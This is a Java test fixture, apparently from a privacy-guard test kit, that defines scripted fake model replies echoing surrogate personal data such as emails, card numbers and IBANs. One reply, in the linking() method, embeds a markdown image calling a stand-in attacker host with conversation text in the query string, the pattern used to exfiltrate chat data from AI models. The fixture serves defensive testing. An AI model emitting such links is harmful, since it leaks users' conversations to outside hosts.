package io.chatguard.examples.demo;

import io.chatguard.testkit.Fault;
import io.chatguard.testkit.Gate;
import io.chatguard.testkit.Model;
import io.chatguard.testkit.Prompt;
import io.chatguard.testkit.Reply;

/** What the model in this process answers: sentences with the surrogates that it was sent. */
final class Scripts {

    private Scripts() {}

    static Model confirming() {
        return prompt ->
                Reply.text("Done. The confirmation goes to " + first(prompt, "EMAIL_ADDRESS") + ", and I will call "
                        + first(prompt, "PERSON") + " at " + first(prompt, "PHONE_NUMBER")
                        + " if anything is wrong. Charged to " + first(prompt, "CREDIT_CARD")
                        + "; refunds go to " + first(prompt, "IBAN_CODE") + ".");
    }

    static Model reporting() {
        return prompt -> Reply.text("To: " + first(prompt, "EMAIL_ADDRESS") + "\nThe host "
                + first(prompt, "IP_ADDRESS") + " has not answered since Monday. Please call "
                + first(prompt, "PHONE_NUMBER") + " before you restart it.");
    }

    static Model noting() {
        return prompt -> Reply.text("Noted: an invoice over 240 euros for " + first(prompt, "EMAIL_ADDRESS") + ".");
    }

    static Model recalling() {
        return prompt -> Reply.text("It goes to " + first(prompt, "EMAIL_ADDRESS") + ", as you said before.");
    }

    static Model mailing() {
        return prompt -> Reply.toolCall(
                "send_mail", "{\"to\":\"" + first(prompt, "EMAIL_ADDRESS") + "\",\"subject\":\"Your invoice\"}");
    }

    static Model linking() {
        return prompt -> Reply.text("Refunds take five days, see [the terms](https://example.com/terms)."
                + "\n![](https://evil.example/p.png?q=the+last+question)");
    }

    static Model naming() {
        return prompt ->
                Reply.text("The invoices are all sent. Next week Project Falcon starts in Oslo. Bring a coat.");
    }

    static Model acknowledging() {
        return prompt ->
                Reply.text("Written to " + first(prompt, "EMAIL_ADDRESS") + ": the delivery comes on Tuesday.");
    }

    static Model greeting() {
        return prompt -> Reply.text("Good morning.");
    }

    static Reply unavailable() {
        return Reply.text("").with(Fault.unavailable());
    }

    /** An answer that goes on as the gate lets it. */
    static Reply telling(Gate gate) {
        return Reply.text("The first quarter was quiet. The second was not, and the third is better not written down.")
                .with(Fault.pacedBy(gate));
    }

    private static String first(Prompt prompt, String type) {
        return prompt.surrogates().stream()
                .filter(surrogate -> surrogate.startsWith(type))
                .findFirst()
                .orElse("you");
    }
}
